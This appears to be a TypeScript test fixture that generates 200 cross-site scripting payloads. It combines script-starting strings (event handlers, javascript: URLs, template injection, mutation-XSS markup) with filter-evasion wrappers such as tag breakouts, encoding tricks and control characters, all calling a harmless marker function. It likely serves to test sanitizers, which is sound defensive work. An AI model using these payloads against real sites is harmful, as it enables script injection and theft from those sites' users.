/**
 * Two hundred pieces of text that would run a script if anything took them for markup or an address: every way of
 * starting one, in every dress that slips through a filter. `xss()` is what they call.
 */
const STARTERS = [
  "<script>xss()</script>",
  "<img src=x onerror=xss()>",
  "<svg onload=xss()>",
  "<body onload=xss()>",
  "<iframe srcdoc='<script>parent.xss()</script>'>",
  "<iframe src=javascript:parent.xss()>",
  "<details open ontoggle=xss()>",
  "<video><source onerror=xss()></video>",
  "<audio src=x onerror=xss()>",
  "<input autofocus onfocus=xss()>",
  "<a href=javascript:xss()>x</a>",
  "<form action=javascript:xss()><button>x</button></form>",
  "<object data=javascript:xss()>",
  "<embed src=javascript:xss()>",
  "<link rel=stylesheet href=javascript:xss()>",
  "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
  "<base href=javascript:xss()//>",
  "<style>@import 'javascript:xss()';</style>",
  "<marquee onstart=xss()>",
  "<math><mtext></mtext><mglyph><style><img src=x onerror=xss()></style></mglyph></math>",
  "{{constructor.constructor('xss()')()}}",
  "$".concat("{void xss()}"),
  "$t(xss)",
  "javascript:xss()",
  "data:text/html,<script>xss()</script>",
] as const;

type Dress = (text: string) => string;
const DRESSES: readonly Dress[] = [
  (text) => text,
  (text) => `"'>${text}`,
  (text) => `--></title></textarea></script>${text}`,
  (text) => text.toUpperCase().replaceAll("XSS()", "xss()"),
  (text) => `&#32;${text.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}`,
  (text) => `\t\n${text.replaceAll(" ", "\t\n")}`,
  (text) => `保洁员${text}`,
  (text) => `${text}\u2028\u202e\u0000${text}`,
];

export const PAYLOADS: readonly string[] = STARTERS.flatMap((starter) => DRESSES.map((dress) => dress(starter)));
